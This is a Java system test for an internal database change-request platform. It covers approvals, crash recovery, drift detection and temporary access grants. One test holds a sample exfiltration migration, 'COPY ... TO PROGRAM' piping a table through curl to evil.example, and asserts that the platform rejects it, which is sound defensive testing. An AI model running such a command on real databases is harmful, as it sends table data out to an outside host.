package com.logicore.dbp.systemtests;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.awaitility.Awaitility.await;

import com.fasterxml.jackson.databind.JsonNode;
import java.nio.file.Path;
import java.sql.DriverManager;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.MethodOrderer;
import org.junit.jupiter.api.Order;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestMethodOrder;

/**
 * One request travels the whole platform for real (five services as separate processes, a real Kafka broker,
 * PostgreSQL, Redis, the Mongo wire server), through the public API only; then the platform is hurt (approval-service
 * SIGKILLed mid-flight, the broker stopped) and nothing accepted is lost or done twice. A provisioned schema drifts
 * by hand and ops see it; an access grant's login reaches its requester and ends on an early revoke.
 */
@TestMethodOrder(MethodOrderer.OrderAnnotation.class)
class RequestLifecycleIT {

    private static final Duration WAIT = Duration.ofSeconds(90);
    private static LocalPlatform platform;
    private static PlatformApi api;
    private static Map<String, String> tokens;
    private static String ops;

    @BeforeAll
    static void up() throws Exception {
        platform = new LocalPlatform(Path.of("target", "lifecycle-home").toAbsolutePath())
                // drift is looked for every few seconds instead of every 5 minutes
                .withEnv("DBP_DRIFT_CHECK_EVERY", "3s");
        var up = platform.run("up");
        assertThat(up.exitCode()).as(up.output()).isZero();
        api = new PlatformApi(platform);
        tokens = platform.demoTokens();
        ops = platform.secret("ops-token");
    }

    @AfterAll
    static void reset() throws Exception {
        if (platform != null) {
            platform.run("reset");
        }
    }

    @Test
    @Order(1)
    void anIndexOnASmallTableIsAutoApprovedBuiltAndWatchedLive() throws Exception {
        try (var live = api.stream(ops, "team=routing")) {
            Thread.sleep(500); // the stream subscribes before the request is sent
            var submitted =
                    api.post(tokens.get("alice"), "/api/v1/requests", index("routing", "stops", "route_id", "seq"));
            assertThat(submitted.status()).as(submitted.body().toString()).isEqualTo(202);
            String id = submitted.text("id");

            JsonNode request = awaitState(tokens.get("alice"), id, "SUCCEEDED");
            assertThat(request.at("/result/index").asText()).isEqualTo("routing.stops_route_id_seq_idx");
            assertThat(appliedStates(request)).containsExactly("SUBMITTED", "APPROVED", "RUNNING", "SUCCEEDED");
            assertThat(request.path("timeline").findValuesAsText("actor"))
                    .contains("member:alice", "policy", "worker:migration-worker");
            assertThat(indexValidity("routing", "stops_route_id_seq_idx")).isEqualTo("valid");

            await().atMost(WAIT).untilAsserted(() -> assertThat(live.typesFor(id))
                    .containsSubsequence(
                            "com.logicore.dbp.request.submitted.v1",
                            "com.logicore.dbp.policy.evaluated.v1",
                            "com.logicore.dbp.request.approved.v1",
                            "com.logicore.dbp.job.requested.v1",
                            "com.logicore.dbp.job.started.v1",
                            "com.logicore.dbp.job.succeeded.v1"));
        }
    }

    @Test
    @Order(2)
    void aRequestOnAnotherTeamsSchemaIsRejectedWithTheOwnershipFinding() throws Exception {
        var submitted = api.post(tokens.get("alice"), "/api/v1/requests", index("deliveries", "deliveries", "status"));
        JsonNode request = awaitState(tokens.get("alice"), submitted.text("id"), "REJECTED");
        List<String> findings = request.path("timeline").findValuesAsText("message");
        assertThat(findings).anyMatch(m -> m.contains("logicore/deliveries") && m.contains("owned by team deliveries"));
    }

    @Test
    @Order(3)
    void anIndexOnALargeTableWaitsForADbaNotTheRequester() throws Exception {
        var submitted =
                api.post(tokens.get("carol"), "/api/v1/requests", index("deliveries", "deliveries", "postal_code"));
        String id = submitted.text("id");
        awaitState(tokens.get("carol"), id, "AWAITING_APPROVAL");

        var byRequester = api.post(tokens.get("carol"), "/api/v1/requests/" + id + "/approve", null);
        assertThat(byRequester.status()).isEqualTo(403);
        assertThat(byRequester.body().path("type").asText()).endsWith("/forbidden");

        var byDba = api.post(
                tokens.get("erin"), "/api/v1/requests/" + id + "/approve", "{\"comment\":\"ok outside peak\"}");
        assertThat(byDba.status()).as(byDba.body().toString()).isEqualTo(202);
        JsonNode request = awaitState(tokens.get("carol"), id, "SUCCEEDED");
        assertThat(appliedStates(request))
                .containsExactly("SUBMITTED", "AWAITING_APPROVAL", "APPROVED", "RUNNING", "SUCCEEDED");
        assertThat(indexValidity("deliveries", "deliveries_postal_code_idx")).isEqualTo("valid");
    }

    @Test
    @Order(4)
    void killingTheApprovalServiceMidFlightLosesNothingAndBuildsNothingTwice() throws Exception {
        String[][] columns = {
            {"address"},
            {"lat"},
            {"lon"},
            {"planned_arrival"},
            {"actual_arrival"},
            {"lat", "lon"},
            {"route_id", "planned_arrival"},
            {"seq", "address"}
        };
        List<String> ids = new ArrayList<>();
        for (int i = 0; i < columns.length; i++) {
            if (i == columns.length / 2) {
                // half the requests are being decided right now: crash the approval-service in the middle of it
                assertThat(platform.run("kill", "approval-service").exitCode()).isZero();
            }
            var submitted = api.post(tokens.get("alice"), "/api/v1/requests", index("routing", "stops", columns[i]));
            assertThat(submitted.status()).isEqualTo(202);
            ids.add(submitted.text("id"));
        }
        String accepted = ids.get(ids.size() - 1);
        assertThat(api.get(tokens.get("alice"), "/api/v1/requests/" + accepted).text("state"))
                .as("nobody decides while the approval-service is down")
                .isEqualTo("SUBMITTED");
        assertThat(platform.run("up").exitCode()).isZero(); // restarts what is not running

        for (String id : ids) {
            JsonNode request = awaitState(tokens.get("alice"), id, "SUCCEEDED");
            assertThat(appliedStates(request)).as(id).containsExactly("SUBMITTED", "APPROVED", "RUNNING", "SUCCEEDED");
            assertThat(request.at("/result/alreadyExisted").asBoolean())
                    .as("built once: " + id)
                    .isFalse();
        }
        for (String id : ids) {
            await().atMost(WAIT).untilAsserted(() -> {
                var timeline = api.monitoringTimeline(ops, id);
                assertThat(timeline.stream().filter(t -> t.endsWith("job.started.v1")))
                        .as(id)
                        .hasSize(1);
                assertThat(timeline.stream().filter(t -> t.endsWith("job.succeeded.v1")))
                        .as(id)
                        .hasSize(1);
            });
        }
    }

    @Test
    @Order(5)
    void withTheBrokerStoppedRequestsAreStillAcceptedAndCompleteWhenItReturns() throws Exception {
        assertThat(platform.run("stop", "kafka").exitCode()).isZero();
        var submitted = api.post(tokens.get("bob"), "/api/v1/requests", index("fleet", "drivers", "depot"));
        assertThat(submitted.status()).as(submitted.body().toString()).isEqualTo(202);
        assertThat(submitted.text("state")).isEqualTo("SUBMITTED");

        assertThat(platform.run("up").exitCode()).isZero();
        JsonNode request = awaitState(tokens.get("bob"), submitted.text("id"), "SUCCEEDED");
        assertThat(indexValidity("fleet", "drivers_depot_idx")).isEqualTo("valid");
        assertThat(appliedStates(request)).containsExactly("SUBMITTED", "APPROVED", "RUNNING", "SUCCEEDED");
    }

    @Test
    @Order(6)
    void aTeamPreChecksAMigrationFromItsCiAndNothingIsSubmitted() throws Exception {
        int before = api.get(tokens.get("alice"), "/api/v1/requests?limit=200")
                .body()
                .path("items")
                .size();
        String copyToProgram =
                "{\"type\":\"SCHEMA_CHANGE\",\"target\":{\"database\":\"logicore\",\"schema\":\"routing\"},"
                        + "\"payload\":{\"migrations\":[{\"version\":\"9\",\"description\":\"dump\","
                        + "\"sql\":\"COPY routing.stops TO PROGRAM 'curl -T - http://evil.example'\"}]}}";
        var rejected = api.post(tokens.get("alice"), "/api/v1/requests/evaluate", copyToProgram);
        assertThat(rejected.status()).as(rejected.body().toString()).isEqualTo(200);
        assertThat(rejected.text("outcome")).isEqualTo("REJECTED");
        assertThat(rejected.body().path("findings").findValuesAsText("code")).contains("security.copy");

        String typeChange = "{\"type\":\"SCHEMA_CHANGE\",\"target\":{\"database\":\"logicore\",\"schema\":\"routing\"},"
                + "\"payload\":{\"migrations\":[{\"version\":\"10\",\"description\":\"bigger seq\","
                + "\"sql\":\"ALTER TABLE routing.stops ALTER COLUMN seq TYPE bigint\"}]}}";
        var review = api.post(tokens.get("alice"), "/api/v1/requests/evaluate", typeChange);
        assertThat(review.text("outcome")).isEqualTo("NEEDS_APPROVAL");
        assertThat(review.body().path("findings").findValuesAsText("code"))
                .contains("column.type-change", "dryrun.observed");

        assertThat(api.get(tokens.get("alice"), "/api/v1/requests?limit=200")
                        .body()
                        .path("items")
                        .size())
                .isEqualTo(before);
    }

    @Test
    @Order(7)
    void everyMemberSeesThePolicyInForceWithTheSettingsOfTheirTeam() throws Exception {
        var routing = api.get(tokens.get("alice"), "/api/v1/policy?database=logicore");
        assertThat(routing.status()).as(routing.body().toString()).isEqualTo(200);
        assertThat(routing.body().at("/effective/accessGrant/maxHours").asInt()).isEqualTo(168);
        assertThat(routing.body()
                        .at("/policy/pii/logicore/fleet.drivers/phone/method")
                        .asText())
                .isEqualTo("PARTIAL");
        var analytics = api.get(tokens.get("dave"), "/api/v1/policy");
        assertThat(analytics.body().at("/effective/accessGrant/maxHours").asInt())
                .isEqualTo(336);
        assertThat(api.get(tokens.get("alice"), "/api/v1/policy?database=elsewhere")
                        .status())
                .isEqualTo(422);
    }

    @Test
    @Order(8)
    void aSafeMigrationOnASmallTableRunsUnattendedAndALockingOneOnTheDemoTableWaitsForADba() throws Exception {
        String safe = "{\"type\":\"SCHEMA_CHANGE\",\"target\":{\"database\":\"logicore\",\"schema\":\"routing\"},"
                + "\"payload\":{\"migrations\":[{\"version\":\"11\",\"description\":\"dispatcher notes\","
                + "\"sql\":\"ALTER TABLE routing.routes ADD COLUMN dispatcher_note text\"}]}}";
        var submitted = api.post(tokens.get("alice"), "/api/v1/requests", safe);
        assertThat(submitted.status()).as(submitted.body().toString()).isEqualTo(202);
        JsonNode request = awaitState(tokens.get("alice"), submitted.text("id"), "SUCCEEDED");
        assertThat(appliedStates(request)).containsSubsequence("SUBMITTED", "APPROVED", "RUNNING", "SUCCEEDED");
        assertThat(request.path("risk").asText()).isEqualTo("LOW");

        String locking = "{\"type\":\"SCHEMA_CHANGE\",\"target\":{\"database\":\"logicore\",\"schema\":\"deliveries\"},"
                + "\"payload\":{\"migrations\":[{\"version\":\"3\",\"description\":\"heavier parcels\","
                + "\"sql\":\"ALTER TABLE deliveries.deliveries ALTER COLUMN weight_kg TYPE numeric(12,2)\"}]}}";
        var waiting = api.post(tokens.get("carol"), "/api/v1/requests", locking);
        assertThat(waiting.status()).as(waiting.body().toString()).isEqualTo(202);
        JsonNode held = awaitState(tokens.get("carol"), waiting.text("id"), "AWAITING_APPROVAL");
        assertThat(held.path("risk").asText()).isEqualTo("HIGH");
        assertThat(held.path("timeline").findValuesAsText("message"))
                .anySatisfy(m -> assertThat(m).contains("deliveries.deliveries: about 150,000 rows"));
        assertThat(held.path("timeline").toString()).contains("DBA");
    }

    @Test
    @Order(9)
    void anAccessGrantLongerThanThePolicyAllowsIsRejectedWithTheLimit() throws Exception {
        String grant = "{\"type\":\"ACCESS_GRANT\",\"target\":{\"database\":\"logicore\",\"schema\":\"routing\"},"
                + "\"payload\":{\"grantee\":\"alice\",\"granteeKind\":\"PERSON\",\"durationHours\":400,"
                + "\"reason\":\"quarterly route audit\"}}";
        var submitted = api.post(tokens.get("alice"), "/api/v1/requests", grant);
        assertThat(submitted.status()).as(submitted.body().toString()).isEqualTo(202);
        JsonNode rejected = awaitState(tokens.get("alice"), submitted.text("id"), "REJECTED");
        assertThat(rejected.path("timeline").findValuesAsText("code")).contains("access.too-long");
    }

    @Test
    @Order(10)
    void aProvisionedSchemaIsChangedThroughThePlatformAndADriftMadeByHandReachesOps() throws Exception {
        String provision = "{\"type\":\"PROVISION_SCHEMA\","
                + "\"target\":{\"database\":\"logicore\",\"schema\":\"route_archive\"},"
                + "\"payload\":{\"schema\":\"route_archive\",\"owningTeam\":\"routing\"},"
                + "\"reason\":\"archive of finished routes\"}";
        var submitted = api.post(tokens.get("alice"), "/api/v1/requests", provision);
        assertThat(submitted.status()).as(submitted.body().toString()).isEqualTo(202);
        String provisionId = submitted.text("id");
        awaitState(tokens.get("alice"), provisionId, "AWAITING_APPROVAL");
        assertThat(api.post(tokens.get("erin"), "/api/v1/requests/" + provisionId + "/approve", null)
                        .status())
                .isEqualTo(202);
        awaitState(tokens.get("alice"), provisionId, "SUCCEEDED");

        String change = "{\"type\":\"SCHEMA_CHANGE\","
                + "\"target\":{\"database\":\"logicore\",\"schema\":\"route_archive\"},"
                + "\"payload\":{\"migrations\":[{\"version\":\"1\",\"description\":\"archived stops\","
                + "\"sql\":\"CREATE TABLE route_archive.archived_stops (id bigint GENERATED ALWAYS AS IDENTITY"
                + " PRIMARY KEY, route_id bigint NOT NULL, eta timestamptz)\"}]}}";
        JsonNode changed = submitUntilOwned(tokens.get("alice"), change);
        assertThat(changed.at("/result/appliedVersions/0").asText()).isEqualTo("1");

        try (var live = api.stream(ops, "team=routing")) {
            Thread.sleep(500); // subscribed before the drift is made
            try (var dba = DriverManager.getConnection(platform.targetJdbcUrl(), "postgres", "")) {
                dba.createStatement()
                        .execute("CREATE INDEX archived_stops_eta_idx ON route_archive.archived_stops (eta);"
                                + "ALTER TABLE route_archive.archived_stops ALTER COLUMN eta TYPE text");
            }
            List<String> expected = List.of(
                    "column route_archive.archived_stops.eta type changed from timestamp with time zone to text",
                    "index route_archive.archived_stops_eta_idx created outside the platform");
            await().atMost(WAIT).pollInterval(Duration.ofSeconds(1)).untilAsserted(() -> {
                JsonNode drift = null;
                for (JsonNode event : api.monitoringEvents(ops, "type=health.finding&team=routing")) {
                    if ("postgres:logicore/route_archive"
                            .equals(event.at("/data/resource").asText())) {
                        drift = event.path("data");
                    }
                }
                assertThat(drift).as("a drift finding for route_archive").isNotNull();
                assertThat(drift.path("kind").asText()).isEqualTo("postgres.schema-drift");
                assertThat(drift.path("severity").asText()).isEqualTo("WARNING");
                List<String> differences = new ArrayList<>();
                drift.at("/metrics/differences").forEach(d -> differences.add(d.asText()));
                assertThat(differences).containsExactlyElementsOf(expected);
                // and it is a current health finding of the team, next to the probes' findings
                assertThat(api.monitoringFindings(ops, "kind=postgres.schema-drift&team=routing")
                                .findValuesAsText("resource"))
                        .contains("postgres:logicore/route_archive");
            });
            await().atMost(WAIT).untilAsserted(() -> assertThat(live.events())
                    .anySatisfy(e -> assertThat(e.toString()).contains("postgres.schema-drift", "route_archive")));
        }
    }

    @Test
    @Order(11)
    void anAccessGrantsLoginComesThroughTheApiToItsRequesterAndAnEarlyRevokeEndsIt() throws Exception {
        String grant = "{\"type\":\"ACCESS_GRANT\",\"target\":{\"database\":\"logicore\",\"schema\":\"routing\"},"
                + "\"payload\":{\"grantee\":\"alice\",\"granteeKind\":\"PERSON\",\"durationHours\":2,"
                + "\"reason\":\"late stops analysis\"}}";
        var submitted = api.post(tokens.get("alice"), "/api/v1/requests", grant);
        assertThat(submitted.status()).as(submitted.body().toString()).isEqualTo(202);
        String id = submitted.text("id");
        awaitState(tokens.get("alice"), id, "SUCCEEDED");

        var login = api.get(tokens.get("alice"), "/api/v1/requests/" + id + "/credentials");
        assertThat(login.status()).as(login.body().toString()).isEqualTo(200);
        assertThat(api.get(tokens.get("erin"), "/api/v1/requests/" + id + "/credentials")
                        .status())
                .isEqualTo(403);
        assertThat(api.get(tokens.get("bob"), "/api/v1/requests/" + id + "/credentials")
                        .status())
                .isEqualTo(404);
        String password = login.text("password");
        String url =
                "jdbc:postgresql://" + login.text("host") + ":" + login.text("port") + "/" + login.text("database");
        var session = DriverManager.getConnection(url, login.text("user"), password);
        var count = session.createStatement().executeQuery("SELECT count(*) FROM routing.stops");
        assertThat(count.next() && count.getLong(1) > 0).isTrue();

        var revoked =
                api.post(tokens.get("alice"), "/api/v1/requests/" + id + "/revoke", "{\"comment\":\"analysis done\"}");
        assertThat(revoked.status()).as(revoked.body().toString()).isEqualTo(202);
        JsonNode expired = awaitState(tokens.get("alice"), id, "EXPIRED");
        assertThat(appliedStates(expired)).endsWith("SUCCEEDED", "EXPIRED");
        assertThat(expired.path("timeline").findValuesAsText("reason"))
                .anySatisfy(r -> assertThat(r).contains("revoked early at the request of member:alice"));

        assertThatThrownBy(() -> session.createStatement().executeQuery("SELECT 1"))
                .as("the open session is ended")
                .isInstanceOf(java.sql.SQLException.class);
        assertThatThrownBy(() -> DriverManager.getConnection(url, login.text("user"), password))
                .as("the login is gone")
                .isInstanceOf(java.sql.SQLException.class);
        assertThat(api.get(tokens.get("alice"), "/api/v1/requests/" + id + "/credentials")
                        .status())
                .isEqualTo(409);
        // the secret is in no timeline and no event
        assertThat(expired.toString()).doesNotContain(password);
        assertThat(api.monitoringEvents(ops, "request=" + id).toString()).doesNotContain(password);
    }

    /**
     * Submits a change on a schema provisioned just before. Ownership reaches approval-service on its own topic, so a
     * change that overtakes it is rejected as another team's; it is submitted again once ownership has arrived.
     */
    private static JsonNode submitUntilOwned(String token, String body) throws Exception {
        for (int attempt = 1; ; attempt++) {
            var submitted = api.post(token, "/api/v1/requests", body);
            assertThat(submitted.status()).as(submitted.body().toString()).isEqualTo(202);
            JsonNode[] last = new JsonNode[1];
            await().atMost(WAIT).pollInterval(Duration.ofMillis(500)).untilAsserted(() -> {
                last[0] = api.get(token, "/api/v1/requests/" + submitted.text("id"))
                        .body();
                assertThat(last[0].path("state").asText()).isIn("SUCCEEDED", "REJECTED", "FAILED");
            });
            if (!"REJECTED".equals(last[0].path("state").asText()) || attempt == 3) {
                assertThat(last[0].path("state").asText())
                        .as(last[0].toString())
                        .isEqualTo("SUCCEEDED");
                return last[0];
            }
            Thread.sleep(2000);
        }
    }

    private static JsonNode awaitState(String token, String id, String state) {
        JsonNode[] last = new JsonNode[1];
        await().atMost(WAIT).pollInterval(Duration.ofMillis(500)).untilAsserted(() -> {
            last[0] = api.get(token, "/api/v1/requests/" + id).body();
            assertThat(last[0].path("state").asText()).as(last[0].toString()).isEqualTo(state);
        });
        return last[0];
    }

    private static List<String> appliedStates(JsonNode request) {
        List<String> states = new ArrayList<>();
        for (JsonNode line : request.path("timeline")) {
            if ("APPLIED".equals(line.path("kind").asText())) {
                states.add(line.path("to").asText());
            }
        }
        return states;
    }

    private static String index(String schema, String table, String... columns) {
        return "{\"type\":\"CREATE_INDEX\",\"target\":{\"database\":\"logicore\",\"schema\":\"" + schema + "\"},"
                + "\"payload\":{\"table\":\"" + table + "\",\"columns\":[\"" + String.join("\",\"", columns) + "\"]},"
                + "\"reason\":\"system test\"}";
    }

    private static String indexValidity(String schema, String index) throws Exception {
        try (var c = DriverManager.getConnection(platform.targetJdbcUrl(), "postgres", "")) {
            var rs = c.createStatement()
                    .executeQuery("SELECT i.indisvalid FROM pg_class c JOIN pg_namespace n"
                            + " ON n.oid = c.relnamespace JOIN pg_index i ON i.indexrelid = c.oid"
                            + " WHERE n.nspname = '" + schema + "' AND c.relname = '" + index + "'");
            return rs.next() ? (rs.getBoolean(1) ? "valid" : "invalid") : "absent";
        }
    }
}
